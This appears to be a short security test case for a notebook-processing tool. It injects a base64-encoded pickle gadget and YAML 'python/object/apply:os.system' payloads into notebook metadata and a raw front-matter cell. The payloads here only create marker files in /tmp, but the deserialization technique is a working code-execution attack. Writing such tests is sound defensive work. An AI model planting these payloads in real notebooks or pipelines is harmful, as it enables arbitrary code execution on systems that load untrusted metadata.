# /// attack
# does = "hides code in metadata that preprocessors have run elsewhere"
# wall = "match"
# ///
# %% hand in
import base64, pickle
class Bomb:
    def __reduce__(self): return (open, ("/tmp/vault-mark-metadata", "w"))
notebook["metadata"]["scramble_config"] = {"seed": base64.b64encode(pickle.dumps(Bomb())).decode()}
notebook["metadata"]["celltoolbar"] = "!!python/object/apply:os.system ['touch /tmp/vault-mark-yaml']"
notebook["cells"].insert(0, {"cell_type": "raw", "metadata": {}, "source": "---\nx: !!python/object/apply:os.system ['touch /tmp/vault-mark-yaml']\n---"})
